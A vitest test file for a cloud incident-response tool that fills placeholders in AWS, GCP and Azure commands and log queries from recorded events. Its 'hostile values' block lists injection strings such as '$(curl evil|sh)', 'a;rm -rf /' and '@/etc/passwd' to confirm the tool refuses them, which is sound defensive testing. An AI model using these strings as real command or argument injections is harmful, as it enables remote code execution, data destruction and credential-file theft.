import { describe, expect, it } from 'vitest';
import { activity } from '../../test/support/activities.ts';
import type { Activity, Resource } from '../activity/activity.ts';
import type { Provider } from '../activity/vocabulary.ts';
import { caseOf } from './case.ts';
import { fillCommand, fillQuery } from './fill.ts';
import { shellQuote } from './shell.ts';

const expectation = 'x';

function filled(run: string, cloud: Provider, activities: readonly Activity[], principals?: string[]) {
  const command = { run, expect: expectation, ...(principals ? { principals } : {}) };
  const result = fillCommand(command, cloud, caseOf('f1', activities, { logs: ['my logs', 'b.json'] }));
  return { ...result, lines: result.commands.map(({ words }) => words.map(shellQuote).join(' ')) };
}

function launched(resources: readonly Resource[], more: Partial<Activity> = {}): Activity {
  return activity({ operation: 'RunInstances', verb: 'create', object: 'instance', resources, ...more });
}

const instance = (id: string, more: Partial<Resource> = {}): Resource => ({
  role: 'target',
  type: 'instance',
  id,
  ...more,
});

describe('a command', () => {
  it('is filled with the event, once for each resource of its kind', () => {
    const run = 'aws ec2 stop-instances --region <REGION> --instance-ids <INSTANCE>';
    const { lines, open } = filled(run, 'aws', [
      launched([instance('i-0a1'), instance('i-0b2', { region: 'us-east-1' })]),
    ]);
    expect(lines).toEqual([
      'aws ec2 stop-instances --region eu-west-1 --instance-ids i-0a1',
      'aws ec2 stop-instances --region us-east-1 --instance-ids i-0b2',
    ]);
    expect(open).toEqual([]);
  });

  it('keeps what nothing fills, marked and inert', () => {
    const { lines, open } = filled('aws x --groups <QUARANTINE> --id <VOLUME>', 'aws', [
      launched([instance('i-0a1')]),
    ]);
    expect(lines).toEqual(["aws x --groups '<QUARANTINE>' --id '<VOLUME>'"]);
    expect(open).toEqual(['QUARANTINE', 'VOLUME']);
  });

  it('acts against what was made, not against what it was made from', () => {
    const event = launched([instance('i-0a1'), { role: 'source', type: 'instance', id: 'i-0dead' }]);
    expect(filled('aws x --id <INSTANCE>', 'aws', [event]).lines).toEqual(['aws x --id i-0a1']);
    const stopped = activity({ verb: 'stop', object: 'instance', resources: [instance('i-0old')] });
    expect(filled('aws x --id <NEW_INSTANCE>', 'aws', [stopped]).lines).toEqual([
      "aws x --id '<NEW_INSTANCE>'",
    ]);
    const failed = launched([instance('i-0a1')], { outcome: 'failure' });
    expect(filled('aws x --id <NEW_INSTANCE>', 'aws', [failed]).lines).toEqual([
      "aws x --id '<NEW_INSTANCE>'",
    ]);
  });

  it('is for the kinds of principals that it names', () => {
    const user = launched([instance('i-0a1')]);
    const run = 'aws iam x --user-name <USER>';
    expect(filled(run, 'aws', [user], ['user']).lines).toEqual(['aws iam x --user-name mara']);
    expect(filled(run, 'aws', [user], ['role']).lines).toEqual([]);
    const role = launched([], {
      principal: { key: 'aws:arn:aws:iam::1:role/path/admin', type: 'role', via: [] },
    });
    expect(filled('aws iam x --role-name <ROLE>', 'aws', [role], ['role']).lines).toEqual([
      'aws iam x --role-name admin',
    ]);
  });

  it('has several grantees and paths as several words', () => {
    const shared = activity({ attrs: { grantees: ['111122223333', 'all', '444455556666'] } });
    expect(filled('aws x --user-ids <GRANTEE>', 'aws', [shared]).lines).toEqual([
      'aws x --user-ids 111122223333 444455556666',
    ]);
    expect(filled('nephoscope hunt <LOGS>', 'aws', [shared]).lines).toEqual([
      "nephoscope hunt 'my logs' b.json",
    ]);
  });

  it('is printed for its own cloud only', () => {
    const google = launched(
      [instance('projects/p/zones/europe-west1-b/instances/web-1', { name: 'web-1' })],
      {
        provider: 'gcp',
        account: 'p',
      },
    );
    const run = 'gcloud x <INSTANCE_NAME> --zone=<ZONE> --project=<ACCOUNT>';
    expect(filled(run, 'gcp', [google, launched([instance('i-0a1')])]).lines).toEqual([
      'gcloud x web-1 --zone=europe-west1-b --project=p',
    ]);
  });

  it('of very many says how many more there are', () => {
    const many = launched(Array.from({ length: 30 }, (_, index) => instance(`i-0${index}`)));
    const { commands, more } = filled('aws x --id <INSTANCE>', 'aws', [many]);
    expect([commands.length, more]).toEqual([20, 10]);
  });
});

describe('hostile values', () => {
  it.each([
    '$(curl evil|sh)',
    '`id`',
    'a;rm -rf /',
    'a&&b',
    'a|b',
    'a>b',
    'a\nb',
    'a\u001b[2Jb',
    'a\u202eb',
    'a"b',
    'a\\b',
    '--force',
    '-x',
    '@/etc/passwd',
    'file:///etc/passwd',
    'fileb://x',
    'https://evil.example/x',
    'a,Values=b]',
    '<REGION>',
    'x'.repeat(2000),
  ])('%j is not put in, and is told', (id) => {
    const { lines, refused } = filled('aws x --id <INSTANCE>', 'aws', [launched([instance(id)])]);
    expect(lines).toEqual(["aws x --id '<INSTANCE>'"]);
    expect(refused).toEqual([{ name: 'INSTANCE', value: id }]);
  });

  it('names of people and groups are one word, whatever they hold', () => {
    const group = "rg (o'brien) ö/instances";
    const event = launched([instance(`/subscriptions/s/resourcegroups/${group}`)], {
      provider: 'azure',
      group: "rg (o'brien) ö",
    });
    const { lines } = filled('az x --ids <INSTANCE> --resource-group <GROUP>', 'azure', [event]);
    expect(lines).toEqual([
      `az x --ids "/subscriptions/s/resourcegroups/rg (o'brien) ö/instances" --resource-group "rg (o'brien) ö"`,
    ]);
  });

  it('a place within JSON or a filter takes plain values only', () => {
    const event = launched([], { provider: 'gcp', account: 'p" OR "x' });
    const run = 'gcloud logging read \'resource="<ACCOUNT>"\'';
    expect(filled(run, 'gcp', [event]).lines).toEqual(['gcloud logging read \'resource="<ACCOUNT>"\'']);
  });
});

describe('a query', () => {
  const user = launched([instance('i-0a1')], {
    principal: { key: "aws:arn:aws:iam::1:user/o'brien", type: 'user', via: [], name: "o'brien" },
  });
  const given = caseOf('f1', [user]);

  it('has values as texts of its language', () => {
    expect(fillQuery('athena', "WHERE arn = '<ARN>' AND t > '<FROM>'", given)).toBe(
      "WHERE arn = 'arn:aws:iam::1:user/o''brien' AND t > '2026-03-09T10:00:00Z'",
    );
    expect(fillQuery('lake', "t > '<FROM_TEXT>' AND id = '<INSTANCE>'", given)).toBe(
      "t > '2026-03-09 10:00:00' AND id = 'i-0a1'",
    );
  });

  it('is not filled from another cloud, nor with control characters', () => {
    expect(fillQuery('kql', "Caller == '<PRINCIPAL_NAME>'", given)).toBe("Caller == '<PRINCIPAL_NAME>'");
    const odd = caseOf('f1', [
      launched([], { principal: { key: 'aws:x', type: 'user', via: [], name: 'a\u0007b' } }),
    ]);
    expect(fillQuery('athena', "x = '<PRINCIPAL_NAME>'", odd)).toBe("x = '<PRINCIPAL_NAME>'");
  });
});
